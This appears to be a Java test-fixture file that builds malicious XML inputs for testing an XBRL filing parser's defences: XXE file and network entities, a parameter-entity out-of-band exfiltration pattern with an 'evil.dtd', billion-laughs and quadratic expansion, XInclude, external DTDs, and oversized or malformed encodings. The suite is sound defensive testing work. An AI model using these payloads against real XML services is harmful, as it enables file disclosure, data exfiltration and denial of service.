package org.finfile.attack;

import static org.finfile.attack.Attack.codes;
import static org.finfile.attack.Attack.instanceDoors;

import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;

/**
 * The XML classes of SECURITY.md, each planted in the fixture filing: entities (external,
 * parameter, expansion), external DTDs, schema hints, references to the network, to the marker
 * file and to devices, XInclude, processing instructions, and parser-level sizes and encodings.
 */
final class XmlAttacks {
  private XmlAttacks() {}

  private static Attack instance(String name, String kind, Map<Door, Integer> doors, Slots slots) {
    return new Attack(name, kind, env -> Inputs.of(slots.fill(env, Fixture.filing()).write(env)), doors, Attack.Check.NONE);
  }

  /** Fills the fixture's slots for one payload. */
  @FunctionalInterface
  interface Slots {
    Fixture fill(Env env, Fixture f) throws Exception;
  }

  static List<Attack> all() {
    List<Attack> list = new ArrayList<>();
    String doctype = "<!DOCTYPE xbrli:xbrl [";
    // External general entities: the marker file and the loopback server, used in a fact, a footnote, an attribute.
    list.add(instance("xxe-file-entity", "external entity", instanceDoors(3),
        (env, f) -> f.set("PROLOG", doctype + "<!ENTITY leak SYSTEM \"" + env.markerUri() + "\">]>\n").set("NOTE", "&leak;")));
    list.add(instance("xxe-file-entity-footnote", "external entity", instanceDoors(3),
        (env, f) -> f.set("PROLOG", doctype + "<!ENTITY leak SYSTEM \"" + env.markerUri() + "\">]>\n").set("FOOTNOTE", "&leak;")));
    list.add(instance("xxe-file-entity-relative", "external entity", instanceDoors(3),
        (env, f) -> f.set("PROLOG", doctype + "<!ENTITY leak SYSTEM \"" + env.markerByDotDot() + "\">]>\n").set("NOTE", "&leak;")));
    list.add(instance("xxe-http-entity", "external entity", instanceDoors(3),
        (env, f) -> f.set("PROLOG", doctype + "<!ENTITY ping SYSTEM \"" + env.url("entity") + "\">]>\n").set("NOTE", "&ping;")));
    list.add(instance("xxe-public-http-entity", "external entity", instanceDoors(3),
        (env, f) -> f.set("PROLOG", doctype + "<!ENTITY ping PUBLIC \"-//ATTACK//ENTITY//EN\" \"" + env.url("public") + "\">]>\n")
            .set("NOTE", "&ping;")));
    list.add(instance("xxe-unparsed-entity", "external entity", instanceDoors(3),
        (env, f) -> f.set("PROLOG", doctype + "<!NOTATION n SYSTEM \"" + env.url("notation") + "\"><!ENTITY u SYSTEM \""
            + env.url("unparsed") + "\" NDATA n>]>\n")));
    list.add(Attack.of("xxe-file-entity-utf16", "external entity", instanceDoors(3),
        env -> Inputs.of(Fixture.filing().set("DECL", "<?xml version=\"1.0\" encoding=\"UTF-16\"?>")
            .set("PROLOG", doctype + "<!ENTITY leak SYSTEM \"" + env.markerUri() + "\">]>\n").set("NOTE", "&leak;")
            .write(env, StandardCharsets.UTF_16LE, new byte[] {(byte) 0xFF, (byte) 0xFE})), Attack.Check.NONE));
    // Parameter entities and external DTDs.
    list.add(instance("xxe-parameter-entity-http", "parameter entity", instanceDoors(3),
        (env, f) -> f.set("PROLOG", doctype + "<!ENTITY % remote SYSTEM \"" + env.url("param.dtd") + "\"> %remote;]>\n")));
    list.add(instance("xxe-parameter-entity-file", "parameter entity", instanceDoors(3),
        (env, f) -> f.set("PROLOG", doctype + "<!ENTITY % secret SYSTEM \"" + env.markerUri() + "\">"
            + "<!ENTITY % wrap \"<!ENTITY out SYSTEM '" + env.url("exfil") + "?%secret;'>\"> %wrap;]>\n").set("NOTE", "&out;")));
    list.add(instance("xxe-parameter-entity-local-dtd", "parameter entity", instanceDoors(3),
        (env, f) -> {
          env.write("evil.dtd", "<!ENTITY % secret SYSTEM \"" + env.markerUri() + "\">\n<!ENTITY % all \"<!ENTITY send SYSTEM '"
              + env.url("oob") + "?%secret;'>\">\n%all;\n");
          return f.set("PROLOG", doctype + "<!ENTITY % dtd SYSTEM \"evil.dtd\"> %dtd;]>\n").set("NOTE", "&send;");
        }));
    list.add(instance("external-dtd-http", "external DTD", instanceDoors(3),
        (env, f) -> f.set("PROLOG", "<!DOCTYPE xbrli:xbrl SYSTEM \"" + env.url("instance.dtd") + "\">\n")));
    list.add(instance("external-dtd-public-http", "external DTD", instanceDoors(3),
        (env, f) -> f.set("PROLOG", "<!DOCTYPE xbrli:xbrl PUBLIC \"-//ATTACK//DTD XBRL//EN\" \"" + env.url("public.dtd") + "\">\n")));
    list.add(instance("external-dtd-file", "external DTD", instanceDoors(3),
        (env, f) -> f.set("PROLOG", "<!DOCTYPE xbrli:xbrl SYSTEM \"" + env.markerUri() + "\">\n")));
    // Entity expansion.
    list.add(instance("billion-laughs", "entity expansion", instanceDoors(3), (env, f) -> {
      StringBuilder d = new StringBuilder(doctype).append("<!ENTITY h0 \"ha\">");
      for (int i = 1; i <= 12; i++) {
        d.append("<!ENTITY h").append(i).append(" \"").append(("&h" + (i - 1) + ";").repeat(10)).append("\">");
      }
      return f.set("PROLOG", d.append("]>\n").toString()).set("NOTE", "&h12;");
    }));
    list.add(instance("quadratic-blowup", "entity expansion", instanceDoors(3),
        (env, f) -> f.set("PROLOG", doctype + "<!ENTITY big \"" + "y".repeat(60_000) + "\">]>\n").set("NOTE", "&big;".repeat(60_000))));
    list.add(instance("entity-expansion-in-attribute", "entity expansion", instanceDoors(3),
        (env, f) -> f.set("PROLOG", doctype + "<!ENTITY big \"" + "z".repeat(40_000) + "\">]>\n")
            .set("NOTE_ATTRIBUTES", " xml:lang=\"" + "&big;".repeat(40_000) + "\"")));
    // Schema hints: followed only to a local schema; one that is not (a URL, the marker) is ignored with a warning.
    String xsi = " xmlns:xsi=\"http://www.w3.org/2001/XMLSchema-instance\" xsi:schemaLocation=\"";
    list.add(instance("schemaLocation-http", "schemaLocation hint", instanceDoors(0),
        (env, f) -> f.set("ROOT", xsi + Fixture.NS + " " + env.url("hint.xsd") + "\"")));
    list.add(instance("schemaLocation-file-marker", "schemaLocation hint", instanceDoors(0),
        (env, f) -> f.set("ROOT", xsi + Fixture.NS + " " + env.markerUri() + "\"")));
    list.add(instance("schemaLocation-xbrli-http", "schemaLocation hint", instanceDoors(0),
        (env, f) -> f.set("ROOT", xsi + "http://www.xbrl.org/2003/instance " + env.url("xbrli.xsd") + "\"")));
    list.add(instance("noNamespaceSchemaLocation-http", "schemaLocation hint", instanceDoors(0),
        (env, f) -> f.set("ROOT", " xmlns:xsi=\"http://www.w3.org/2001/XMLSchema-instance\" xsi:noNamespaceSchemaLocation=\""
            + env.url("nons.xsd") + "\"")));
    // XInclude: an element the root does not allow (invalid), never expanded.
    String xi = "<xi:include xmlns:xi=\"http://www.w3.org/2001/XInclude\" parse=\"text\" href=\"";
    list.add(instance("xinclude-file-marker", "XInclude", instanceDoors(1, 3, 3),
        (env, f) -> f.set("FOOTNOTE", xi + env.markerUri() + "\"/>")));
    list.add(instance("xinclude-http", "XInclude", instanceDoors(1, 3, 3),
        (env, f) -> f.set("FOOTNOTE", xi + env.url("inc.txt") + "\"/>")));
    list.add(instance("xinclude-relative-marker", "XInclude", instanceDoors(1, 3, 3),
        (env, f) -> f.set("FOOTNOTE", xi + env.markerByDotDot() + "\"/>")));
    // Processing instructions before the root: kept as data, never acted on.
    list.add(instance("pi-xml-stylesheet-http", "processing instruction", instanceDoors(0),
        (env, f) -> f.set("PROLOG", "<?xml-stylesheet type=\"text/xsl\" href=\"" + env.url("style.xsl") + "\"?>\n")));
    list.add(instance("pi-xml-stylesheet-file", "processing instruction", instanceDoors(0),
        (env, f) -> f.set("PROLOG", "<?xml-stylesheet type=\"text/css\" href=\"" + env.markerUri() + "\"?>\n")));
    list.add(instance("pi-xml-model-http", "processing instruction", instanceDoors(0),
        (env, f) -> f.set("PROLOG", "<?xml-model href=\"" + env.url("rules.sch") + "\" type=\"application/xml\"?>\n"
            + "<?xml-stylesheet href=\"" + env.url("second.xsl") + "\" type=\"text/xsl\" alternate=\"yes\"?>\n")));
    // Sizes the parser itself must bound.
    list.add(instance("deep-nesting-footnote", "deep nesting", instanceDoors(3),
        (env, f) -> f.set("FOOTNOTE", "<span xmlns=\"http://www.w3.org/1999/xhtml\">".repeat(100_000) + "x" + "</span>".repeat(100_000))));
    list.add(instance("deep-nesting-segment", "deep nesting", instanceDoors(3),
        (env, f) -> f.set("BODY", "<xbrli:context id=\"deep\"><xbrli:entity><xbrli:identifier scheme=\"http://example.com/attack\">ATTACK"
            + "</xbrli:identifier><xbrli:segment>" + "<a:d>".repeat(100_000) + "</a:d>".repeat(100_000)
            + "</xbrli:segment></xbrli:entity><xbrli:period><xbrli:instant>2003-03-31</xbrli:instant></xbrli:period></xbrli:context>\n")));
    list.add(instance("huge-attribute-count", "attribute count", instanceDoors(3), (env, f) -> {
      StringBuilder attrs = new StringBuilder();
      for (int i = 0; i < 200_000; i++) {
        attrs.append(" a").append(i).append("=\"\"");
      }
      return f.set("NOTE_ATTRIBUTES", attrs.toString());
    }));
    list.add(instance("huge-text-fact-50mb", "huge text", instanceDoors(3), (env, f) -> f.set("NOTE", "w".repeat(50_000_000))));
    list.add(Attack.of("huge-attribute-value-20mb", "huge text", instanceDoors(3, 3, 3),
        env -> Inputs.of(Fixture.filing().set("NOTE_ATTRIBUTES", " xml:lang=\"" + "e".repeat(20_000_000) + "\"").write(env)),
        TableAttacks.shortLines()));
    return list;
  }

  /** Encodings of the instance itself. */
  static List<Attack> encodings() {
    List<Attack> list = new ArrayList<>();
    list.add(bytes("instance-invalid-utf8", instanceDoors(3), new byte[] {'A', (byte) 0xFF, (byte) 0xFE, 'B'}));
    list.add(bytes("instance-overlong-utf8", instanceDoors(3), new byte[] {'A', (byte) 0xC0, (byte) 0xBC, 'B'}));
    list.add(bytes("instance-lone-surrogate-utf8", instanceDoors(3), new byte[] {'A', (byte) 0xED, (byte) 0xA0, (byte) 0x80, 'B'}));
    list.add(bytes("instance-nul-byte", instanceDoors(3), new byte[] {'A', 0, 'B'}));
    list.add(bytes("instance-truncated-utf8", instanceDoors(3), new byte[] {'A', (byte) 0xE2, (byte) 0x82}));
    list.add(instance("instance-char-ref-nul", "encoding", instanceDoors(3), (env, f) -> f.set("NOTE", "A&#0;B")));
    list.add(instance("instance-char-ref-surrogate", "encoding", instanceDoors(3), (env, f) -> f.set("NOTE", "A&#xD800;B")));
    list.add(Attack.of("instance-utf16-bom-declared", "encoding", instanceDoors(0),
        env -> Inputs.of(Fixture.filing().set("DECL", "<?xml version=\"1.0\" encoding=\"UTF-16\"?>")
            .write(env, StandardCharsets.UTF_16LE, new byte[] {(byte) 0xFF, (byte) 0xFE})), Attack.Check.NONE));
    list.add(Attack.of("instance-utf16be-no-bom-declared", "encoding", instanceDoors(0),
        env -> Inputs.of(Fixture.filing().set("DECL", "<?xml version=\"1.0\" encoding=\"UTF-16\"?>")
            .write(env, StandardCharsets.UTF_16BE, new byte[0])), Attack.Check.NONE));
    list.add(Attack.of("instance-utf16le-no-declaration", "encoding", instanceDoors(3),
        env -> Inputs.of(Fixture.filing().set("DECL", "").write(env, StandardCharsets.UTF_16LE, new byte[0])), Attack.Check.NONE));
    list.add(instance("xml11-control-character", "encoding", instanceDoors(0, 3, 3),
        (env, f) -> f.set("DECL", "<?xml version=\"1.1\" encoding=\"UTF-8\"?>").set("NOTE", "bell&#x1;here")));
    list.add(instance("declared-ebcdic", "encoding", instanceDoors(3),
        (env, f) -> f.set("DECL", "<?xml version=\"1.0\" encoding=\"IBM037\"?>")));
    return list;
  }

  /** The fixture with {@code bad} bytes in its text fact. */
  private static Attack bytes(String name, Map<Door, Integer> doors, byte[] bad) {
    return new Attack(name, "encoding", env -> {
      String text = Fixture.filing().set("NOTE", "@@BAD@@").instanceText();
      int at = text.indexOf("@@BAD@@");
      byte[] head = text.substring(0, at).getBytes(StandardCharsets.UTF_8);
      byte[] tail = text.substring(at + 7).getBytes(StandardCharsets.UTF_8);
      byte[] all = new byte[head.length + bad.length + tail.length];
      System.arraycopy(head, 0, all, 0, head.length);
      System.arraycopy(bad, 0, all, head.length, bad.length);
      System.arraycopy(tail, 0, all, head.length + bad.length, tail.length);
      Fixture.filing().writeTaxonomy(env.dir());
      return Inputs.of(env.write("i.xbrl", all));
    }, doors, Attack.Check.NONE);
  }

  static Map<Door, Integer> validateOnly(int code) {
    return codes(Door.VALIDATE, code);
  }
}
